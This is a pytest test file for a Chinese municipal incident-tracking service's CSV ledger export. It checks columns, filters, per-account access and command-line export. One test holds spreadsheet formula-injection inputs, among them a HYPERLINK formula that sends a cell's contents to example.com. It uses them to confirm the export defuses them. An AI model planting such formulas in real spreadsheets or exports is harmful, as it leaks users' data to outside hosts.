"""The case ledger (案件台账): the cases the list finds, all of them, as a CSV file a spreadsheet
opens in UTF-8, with Chinese headings, names and local times; within the account's
jurisdiction; a cell a user typed never runs as a formula."""

import csv
import io
import uuid

import pytest

HEADINGS = ["编号", "上报时间", "来源", "来源工单编号", "类别编码", "类别", "描述", "状态", "地级市",
            "区县", "乡镇（街道）", "村（社区）", "网格编码", "网格", "经度", "纬度", "入格方式", "处置部门",
            "加急时间", "处置时限", "结案时间", "按期结案", "警示", "满意度", "返工次数", "一次完成",
            "催办次数", "延期次数", "不纳入考核时间"]


def ledger(client, **params) -> list[dict]:
    r = client.get("/incidents.csv", params=params)
    assert r.status_code == 200, r.text
    assert r.headers["content-type"].startswith("text/csv")
    assert "attachment" in r.headers["content-disposition"]
    assert r.content.startswith(b"\xef\xbb\xbf")  # Excel reads it as UTF-8 only so
    reader = csv.DictReader(io.StringIO(r.content.decode("utf-8-sig"), newline=""))
    assert reader.fieldnames == HEADINGS
    return list(reader)


def listed(client, **params) -> list[dict]:
    r = client.get("/incidents", params={"limit": 1000, **params})
    assert r.status_code == 200
    return r.json()["features"]


def report(client, grid, description: str, **fields) -> dict:
    p = grid.geometry.representative_point()
    r = client.post("/incidents", json={"client_id": str(uuid.uuid4()), "category": "0601",
                                        "description": description, "lon": p.x, "lat": p.y,
                                        **fields})
    assert r.status_code == 201, r.text
    return r.json()


def act(client, case: int, *steps) -> None:
    for action, body in steps:
        r = client.post(f"/incidents/{case}/actions/{action}", json=body)
        assert r.status_code == 200, (action, r.text)


def chiefs_grids(hierarchy, grids):
    """The grids of the chief's village, the worker's first (tests.conftest.accounts)."""
    county = hierarchy.grids[hierarchy.grids["parent_code"].str.startswith("441502")]
    codes = list(county[county["parent_code"] == county["parent_code"].iloc[0]]["code"])
    return [grids[grids["code"] == code].iloc[0] for code in codes]


@pytest.fixture(scope="module")
def cases(clients, hierarchy, grids):
    """A case reported in the worker's grid; one dispatched to T1 and one closed on time in
    another grid of the chief's village."""
    command, department = clients["command"], clients["department"]
    grid, other = chiefs_grids(hierarchy, grids)[:2]
    reported = report(clients["worker"], grid, "路灯不亮", reported_at="2026-10-18T10:00:00+08:00")
    number = f"GD{uuid.uuid4().int % 10**12:012d}"  # the hotline's 工单编号
    dispatched = report(command, other, "井盖缺失", client_id=number, source="hotline")
    act(command, dispatched["id"], ("file", {}), ("dispatch", {"department": "T1"}),
        ("urge", {"note": "诉求人来电催促办理"}), ("extend", {"note": "需协调", "working_days": 1}))
    closed = report(command, other, "暴露垃圾")
    act(command, closed["id"], ("file", {}), ("dispatch", {"department": "T1"}))
    act(department, closed["id"], ("accept", {}), ("report_handled", {"note": "已清运"}))
    act(command, closed["id"], ("check", {}), ("check_pass", {}),
        ("follow_up", {"satisfaction": 5}), ("exempt", {"note": "同一诉求反复来电，已答复"}))
    return {"grid": grid, "village": grid.village_code, "number": number,
            "reported": reported["id"],
            "dispatched": dispatched["id"], "closed": closed["id"]}


def test_the_ledger_holds_each_case_the_list_finds_newest_first_in_chinese(api, cases):
    rows = ledger(api, village=cases["village"])
    features = listed(api, village=cases["village"])
    assert [int(r["编号"]) for r in rows] == [f["id"] for f in features]  # all, newest first
    by_id = {int(r["编号"]): r for r in rows}
    for feature in features:
        row, case = by_id[feature["id"]], feature["properties"]
        assert (row["网格编码"], row["网格"]) == (case["grid"]["code"], case["grid"]["name"])
        assert (row["村（社区）"], row["乡镇（街道）"], row["区县"], row["地级市"]) == (
            case["village"]["name"], case["township"]["name"], case["county"]["name"], "汕尾市")
        assert (float(row["经度"]), float(row["纬度"])) == pytest.approx(
            (case["lon"], case["lat"]), abs=1e-6)
        assert (row["类别编码"], row["描述"]) == (case["category"], case["description"])
    reported, dispatched, closed = (by_id[cases[k]] for k in ("reported", "dispatched", "closed"))
    assert reported["上报时间"] == "2026-10-18 10:00"  # China Standard Time, as reported
    assert (reported["状态"], reported["来源"], reported["入格方式"]) == ("已上报", "网格员", "网格内")
    assert reported["类别"] == "暴露垃圾"
    assert (reported["处置部门"], reported["处置时限"], reported["结案时间"], reported["按期结案"],
            reported["警示"], reported["催办次数"], reported["不纳入考核时间"]) == (
        "", "", "", "", "", "0", "")
    assert (dispatched["状态"], dispatched["处置部门"], dispatched["警示"], dispatched["催办次数"],
            dispatched["延期次数"], reported["延期次数"]) == ("已派遣", "测试局", "绿灯", "1", "1", "0")
    assert (dispatched["来源"], dispatched["来源工单编号"], reported["来源工单编号"]) == (
        "12345热线", cases["number"], "")
    deadline = api.get(f"/incidents/{cases['dispatched']}").json()["handling_deadline"]
    assert dispatched["处置时限"] == _local_minute(deadline)
    assert (closed["状态"], closed["按期结案"], closed["满意度"], closed["返工次数"],
            closed["一次完成"]) == ("已评价", "是", "5", "0", "是")
    assert (reported["一次完成"], dispatched["一次完成"]) == ("", "")  # not closed
    closed_case = api.get(f"/incidents/{cases['closed']}").json()
    assert closed["结案时间"] == _local_minute(closed_case["closed_at"])
    assert closed["不纳入考核时间"] == _local_minute(closed_case["exempted_at"])


def test_a_case_reopened_and_closed_again_was_not_done_the_first_time(api, cases):
    again = report(api, cases["grid"], "路面坑洼")["id"]
    act(api, again, ("file", {}), ("close", {"note": "已修补"}))
    assert by_number(ledger(api, grid=cases["grid"].code))[again]["一次完成"] == "是"
    act(api, again, ("reopen", {"note": "群众反映仍有坑洼"}), ("close", {"note": "已重新修补"}))
    assert by_number(ledger(api, grid=cases["grid"].code))[again]["一次完成"] == "否"


def test_a_case_closed_after_its_deadline_is_not_closed_on_time(api, cases, db):
    from sqlalchemy import text

    late = report(api, cases["grid"], "违章停车")["id"]
    act(api, late, ("file", {}), ("close", {"note": "已劝离"}))
    assert by_number(ledger(api, grid=cases["grid"].code))[late]["按期结案"] == "是"
    with db.begin() as conn:  # its limit ran out an hour before it was closed
        conn.execute(text("UPDATE incident SET case_deadline = closed_at - interval '1 hour' "
                          "WHERE id = :id"), {"id": late})
    assert by_number(ledger(api, grid=cases["grid"].code))[late]["按期结案"] == "否"


def by_number(rows: list[dict]) -> dict[int, dict]:
    return {int(r["编号"]): r for r in rows}


def _local_minute(stamp: str) -> str:
    from datetime import datetime
    from zoneinfo import ZoneInfo

    return datetime.fromisoformat(stamp).astimezone(ZoneInfo("Asia/Shanghai")).strftime(
        "%Y-%m-%d %H:%M")


def test_the_ledger_takes_the_lists_filters(api, cases):
    village = cases["village"]
    for params in ({"status": "dispatched"}, {"category": "06"}, {"category": "01"},
                   {"from": "2026-10-18T00:00:00+08:00", "to": "2026-10-19T00:00:00+08:00"},
                   {"colour": "green"}, {"method": "inside"}, {"department": "T1"},
                   {"department": "NONE"}):
        assert [int(r["编号"]) for r in ledger(api, village=village, **params)] == [
            f["id"] for f in listed(api, village=village, **params)], params
    mine = {cases[k]: k for k in ("reported", "dispatched", "closed")}
    for params, found in (({"village": village, "status": "dispatched"}, ["dispatched"]),
                          ({"village": village, "department": "T1"}, ["closed", "dispatched"]),
                          ({"grid": cases["grid"].code}, ["reported"])):
        assert [mine[int(r["编号"])] for r in ledger(api, **params)
                if int(r["编号"]) in mine] == found


@pytest.mark.parametrize("username", ["worker", "chief", "command", "department", "planner"])
def test_an_account_exports_the_cases_it_may_read_and_no_others(clients, cases, username):
    client = clients[username]
    rows = ledger(client)
    assert [int(r["编号"]) for r in rows] == [f["id"] for f in listed(client)]
    exported = {int(r["编号"]) for r in rows}
    expected = {"worker": {"reported"}, "chief": {"reported", "dispatched", "closed"},
                "command": {"reported", "dispatched", "closed"},
                "department": {"dispatched", "closed"}, "planner": set()}[username]
    assert {k for k in ("reported", "dispatched", "closed") if cases[k] in exported} == expected


def test_a_cell_a_user_typed_is_text_in_a_spreadsheet_never_a_formula(api, cases):
    typed = ['=HYPERLINK("http://example.com/?q="&A1,"详情")', "+86 138", "-1 度", "@SUM(A1)",
             "\t=1+1", '甲,乙\n"丙"；丁']
    ids = [report(api, cases["grid"], text)["id"] for text in typed]
    numbered = report(api, cases["grid"], "编号以等号开头", client_id="=1+1", source="hotline")
    rows = {int(r["编号"]): r for r in ledger(api, grid=cases["grid"].code)}
    assert [rows[i]["描述"] for i in ids] == ["'" + t for t in typed[:5]] + [typed[5]]
    assert rows[numbered["id"]]["来源工单编号"] == "'=1+1"


@pytest.mark.parametrize("params,field", [({"status": "finished"}, "status"),
                                          ({"from": "soon"}, "from"), ({"bbox": "1,2,3"}, "bbox"),
                                          ({"colour": "blue"}, "colour"),
                                          # a time zone no place has, which PostgreSQL refuses
                                          ({"to": "2026-11-18T03:46:47-16:01"}, "to"),
                                          # checked by none but the database, as the file starts
                                          ({"q": "井盖\x00"}, "q")])
def test_a_bad_filter_is_refused_naming_it_before_any_row(api, params, field):
    r = api.get("/incidents.csv", params=params)
    assert r.status_code == 422 and r.headers["content-type"] == "application/json"
    assert r.json()["detail"][0]["loc"][-1] == field


def test_the_ledger_needs_a_signed_in_account(server):
    import httpx

    assert httpx.get(f"{server}/api/v1/incidents.csv").status_code == 401


def test_every_state_source_method_and_colour_has_a_chinese_name():
    """The ledger and the pages never show a code where a name belongs."""
    from mapsvc.incidents.model import METHOD_NAMES, METHODS, SOURCE_NAMES, SOURCES
    from mapsvc.workflow.clocks import COLOUR_NAMES, COLOURS
    from mapsvc.workflow.machine import ACTION_NAMES, ACTIONS, STATE_NAMES, STATES

    assert list(STATE_NAMES) == list(STATES)
    assert set(ACTION_NAMES) == {"report", "regrid", *ACTIONS}
    assert list(SOURCE_NAMES) == list(SOURCES) and list(METHOD_NAMES) == list(METHODS)
    assert list(COLOUR_NAMES) == list(COLOURS)
    for names in (STATE_NAMES, ACTION_NAMES, SOURCE_NAMES, METHOD_NAMES, COLOUR_NAMES):
        assert all(name and not name.isascii() for name in names.values())
        assert len(set(names.values())) == len(names)


def test_the_command_line_writes_the_ledger_an_admin_downloads(api, cases, tmp_path):
    from typer.testing import CliRunner

    from mapsvc.cli import app

    out = tmp_path / "台账.csv"
    village = cases["village"]
    result = CliRunner().invoke(app, ["incidents", "export", str(out), "--village", village,
                                      "--from", "2026-10-18", "--to", "2026-10-19"])
    assert result.exit_code == 0, result.output
    served = api.get("/incidents.csv", params={"village": village, "from": "2026-10-18",
                                               "to": "2026-10-19"}).content
    assert out.read_bytes() == served
    assert cases["reported"] in {int(r["编号"]) for r in csv.DictReader(
        io.StringIO(served.decode("utf-8-sig"), newline=""))}
    assert list(tmp_path.iterdir()) == [out]  # nothing else left beside it
    department = tmp_path / "部门台账.csv"  # a department's cases, as its own report
    result = CliRunner().invoke(app, ["incidents", "export", str(department), "--village",
                                      village, "--department", "T1"])
    assert result.exit_code == 0, result.output
    assert department.read_bytes() == api.get("/incidents.csv", params={
        "village": village, "department": "T1"}).content
    assert {r["处置部门"] for r in csv.DictReader(io.StringIO(
        department.read_text(encoding="utf-8-sig"), newline=""))} == {"测试局"}


@pytest.mark.parametrize("options,named", [(["--status", "finished"], "--status"),
                                           (["--from", "soon"], "--from"),
                                           (["--to", "1700000000"], "--to")])
def test_the_command_line_refuses_a_bad_option_naming_it_and_writes_nothing(tmp_path, options,
                                                                             named):
    from typer.testing import CliRunner

    from mapsvc.cli import app

    out = tmp_path / "cases.csv"
    result = CliRunner().invoke(app, ["incidents", "export", str(out), *options])
    assert result.exit_code == 2 and named in result.output
    assert not list(tmp_path.iterdir())
